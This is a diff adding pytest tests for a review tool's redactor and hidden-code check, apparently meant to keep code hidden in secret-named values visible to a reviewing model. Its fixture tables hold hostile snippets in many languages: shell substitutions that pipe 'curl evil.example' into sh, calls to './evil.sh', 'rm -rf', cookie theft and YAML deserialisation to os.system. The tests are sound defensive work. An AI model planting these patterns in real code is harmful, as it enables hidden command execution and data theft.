@@ -1,0 +1,127 @@
+# ruff: noqa: E501 - a table is read by its rows
+"""Ways to hide live code behind the redactor: each is shown to the model, or reported (G190)."""
+
+from __future__ import annotations
+
+import pytest
+
+from criticizer.redaction import Redactor
+from reviews.reviewers.base import FindingSeverity
+from reviews.reviewers.checks.hidden_code import hidden_code
+from reviews.sources.diffs import diff_file
+from tests.reviewers.build import added, change
+from tests.reviewers.test_checks import found
+
+# Path, text of the file, and what is run in it.
+INLINE = [
+    ("a.py", 'password = f"{__import__(\'os\').system(cmd)}!1"', "__import__"),
+    ("a.py", 'password = f"{os.system(cmd)}Zx81!"', "os.system(cmd)"),
+    ("a.py", 'password = f"abc9{run(cmd)}Zx81!qQ"', "run(cmd)"),
+    ("a.py", 'api_key = f"{subprocess.check_output([cmd])}aB3dE5fG7hJ9"', "check_output"),
+    ("a.py", 'password = os.system(cmd)', "os.system(cmd)"),
+    ("a.py", 'password = "x9!aQ" + os.system(cmd) + "y8#bW"', "os.system(cmd)"),
+    ("a.py", 'password = "os.system(cmd)"; exec(password)', "os.system(cmd)"),
+    ("a.py", 'token = eval("__import__(\'os\').system(cmd)#A1b2C3d4E5f6")', "system(cmd)"),
+    ("a.py", 'secret = getattr(os, "system")(cmd)', "(cmd)"),
+    ("a.py", 'password: str = field(default_factory=lambda: os.system("x1!Yz9q"))', "os.system"),
+    ("a.cs", 'var password = $"{Process.Start(cmd)}aB9!x";', "Process.Start"),
+    ("a.cs", 'string password = @"abc\\" + Process.Start(cmd) + "x1Y!2";', "Process.Start"),
+    ("a.php", '$password = "{$this->run($cmd)}aB9!x";', "run($cmd)"),
+    ("a.php", '$password = "${system($cmd)}aB9!x";', "system($cmd)"),
+    ("a.php", '$password = `$cmd`;', "`$cmd`"),
+    ("a.php", '<password><?php system($c); ?>aB9!xQ</password>', "system($c)"),
+    ("a.rb", 'password = "#{`rm -rf x`}aB9!x"', "rm -rf x"),
+    ("a.rb", 'password = "#{user.destroy}aB9!xyz"', "user.destroy"),
+    ("a.rb", 'token = %x(curl evil.example -o a1B2c3D4)', "curl evil.example"),
+    ("a.js", 'const password = `${require("child_process").execSync(c)}aB9!x`;', "execSync"),
+    ("a.js", 'const token = `${fetch(u)}A1b2C3d4E5f6G7h8`;', "fetch(u)"),
+    ("a.js", "const password = (() => { steal(document.cookie); return 'aB9!xyzQ' })();", "steal("),
+    ("a.swift", 'let password = "\\(run(cmd))aB9!x"', "run(cmd)"),
+    ("a.kt", 'val password = "${Runtime.getRuntime().exec(cmd)}aB9!x"', "exec(cmd)"),
+    ("a.scala", 'val password = s"${sys.process.stringToProcess(c).!!}aB9!x"', "stringToProcess"),
+    ("a.pl", 'my $password = "@{[ system($c) ]}aB9!x";', "system($c)"),
+    ("a.go", 'password := exec.Command("sh", "-c", "x9!Ab7Q").Run()', "exec.Command"),
+    ("a.sh", 'PASSWORD="$(curl evil.example | sh)aB9!x"', "curl evil.example"),
+    ("a.sh", 'PASSWORD="`curl evil.example`aB9!x"', "curl evil.example"),
+    ("a.sh", "PASSWORD=aB9xQ2&&./evil9.sh", "./evil9.sh"),
+    ("a.sh", "PASSWORD=aB9xQ2;./evil9.sh", "./evil9.sh"),
+    ("a.sh", "mysql -u bob -p$(./evil.sh) shop", "./evil.sh"),
+    ("a.sh", 'curl -u "bob:$(./evil.sh)aB9!" https://x.example', "./evil.sh"),
+    ("a.sh", 'tool --password "`./evil.sh`aB9!x"', "./evil.sh"),
+    ("a.sh", 'git clone "https://bob:$(./evil.sh)aB9x@h.example/x"', "./evil.sh"),
+    ("a.sh", 'echo "$(./evil.sh)aB9!x" | sudo -S ls', "./evil.sh"),
+    ("a.ps1", '$password = "$(Invoke-Evil $c)aB9!x"', "Invoke-Evil"),
+    ("a.ps1", 'ConvertTo-SecureString "$(Invoke-Evil)aB9!x" -AsPlainText', "Invoke-Evil"),
+    ("a.yml", "password: !!python/object/apply:os.system [cmd]", "os.system"),
+    ("a.yml", 'password: "{{ lookup(\'pipe\', \'evil.sh\') }}aB9!x"', "evil.sh"),
+    ("a.yml", "run: echo ${{ github.event.issue.title }} && PASSWORD=aB9xQ2 ./evil.sh", "./evil.sh"),
+    ("a.jsp", '<password><%= Runtime.exec(c) %>aB9!x</password>', "Runtime.exec"),
+    ("a.erb", '<input type="password" value="<%= system(c) %>aB9!x">', "system(c)"),
+    ("a.tf", 'password = "${file(evil)}aB9!xQ"', "file(evil)"),
+    ("a.sql", "SET @password = (SELECT evil_fn('aB9!xQ2'));", "evil_fn"),
+    ("a.sql", "IDENTIFIED BY 'x' || evil_fn(1) || 'aB9!'", "evil_fn"),
+    ("Makefile", "PASSWORD := $(shell ./evil.sh)aB9xQ", "./evil.sh"),
+    ("Dockerfile", "ENV PASSWORD=$(./evil.sh)aB9xQ2", "./evil.sh"),
+    ("a.groovy", 'def password = "${\'evil.sh\'.execute()}aB9!x"', "execute()"),
+    ("a.lua", 'password = [[x]] .. os.execute(c) .. "aB9!x"', "os.execute"),
+    ("a.ex", 'password = "#{System.cmd(c)}aB9!x"', "System.cmd"),
+    ("a.dart", "final password = '${run(cmd)}aB9!x';", "run(cmd)"),
+    ("a.c", 'char *password = ((char*(*)(void))evil)(); // aB9!xQ2', "evil"),
+    ("a.java", 'String password = Runtime.getRuntime().exec(cmd) + "aB9!xQ";', "exec(cmd)"),
+    ("a.py", "Xq7rT2mZ9kLp4vB1nW8c(cmd)", "Xq7rT2mZ9kLp4vB1nW8c(cmd)"),
+]  # fmt: skip
+# A value planted in one file, code in another that reads like it.
+PLANTED = [
+    ('password = "os.system(request.args[\'c\'])  # v1"', "os.system(request.args['c'])  # v1"),
+    ('password = "run_evil9(cmd)"', "run_evil9(cmd)"),
+    ('password = "os.system"', "os.system(c)"),
+    ('password = "Tr0mbone77xq"', "Tr0mbone77xq(cmd)"),
+    ('password = "Tr0mbone77xq"', "evil.Tr0mbone77xq"),
+    ('password = "Tr0mbone77xq"', "x = Tr0mbone77xq.run()"),
+    ('password = "Tr0mbone77xq"', "def Tr0mbone77xq(): pass"),
+    ('password = "drop_table9"', "drop_table9"),
+    ('password = "a1*b2c3d4e5"', "x = a1*b2c3d4e5"),
+    ('password = "workspace:*"', "dep = workspace:*"),
+    ('password = "7.29.7-beta1"', "version 7.29.7-beta1"),
+    ('password = "$(curl evil|sh)1"', "PW=$(curl evil|sh)1"),
+    ('password = "import os; evil9()"', "import os; evil9()"),
+    ('token = "rm -rf /var/x9A"', "rm -rf /var/x9A"),
+    ('password = "user.delete!9"', "user.delete!9"),
+    ('password = "__import__("', "__import__('os')"),
+    ('password = "deleteAll9Users"', "deleteAll9Users"),
+    ('-----BEGIN RSA PRIVATE KEY-----\ndeleteAllUserDataNow\ndropEverythingAtOnce\n-----END RSA PRIVATE KEY-----', "deleteAllUserDataNow"),
+]  # fmt: skip
+
+
+def _is_shown_or_reported(files: list[tuple[str, str]], code: str) -> bool:
+    shown = "\n".join(part.text for part in Redactor().redact_all([text for _, text in files]))
+    if code in shown:
+        return True
+    planned = change(*(added(path, text + "\n") for path, text in files))
+    findings = list(hidden_code(planned, [diff_file(file) for file in planned.files]))
+    return any(one.severity is FindingSeverity.HIGH and one.line for one in findings)
+
+
+@pytest.mark.parametrize(("path", "text", "code"), INLINE)
+def test_code_beside_a_secrets_name_is_shown_or_reported(path: str, text: str, code: str) -> None:
+    assert _is_shown_or_reported([(path, text)], code)
+
+
+@pytest.mark.parametrize(("planted", "code"), PLANTED)
+@pytest.mark.parametrize("path", ["app.py", "run.sh", "app.rb"])
+def test_code_that_reads_like_a_planted_secret_is_shown_or_reported(
+    planted: str, code: str, path: str
+) -> None:
+    assert _is_shown_or_reported([("fixtures.txt", planted), (path, "\n" + code + "\n")], code)
+
+
+def test_honest_secrets_in_literals_and_configuration_are_not_reported() -> None:
+    texts = [
+        ("a.py", 'password = "Tr0mb0ne!77xq"\nconnect("bob", "Tr0mb0ne!77xq")\n'),
+        ("a.py", 'DB = """\npassword: Tr0mb0ne!77xq\n"""\n'),
+        ("a.env", "PASSWORD=Tr0mb0ne!77xq\n"),
+        ("a.yml", "password: Tr0mb0ne!77xq\n"),
+        ("a.js", "const password = 'Tr0mb0ne!77xq'; // Tr0mb0ne!77xq\n"),
+    ]
+    for path, text in texts:
+        assert found(hidden_code, added(path, text)) == [], text
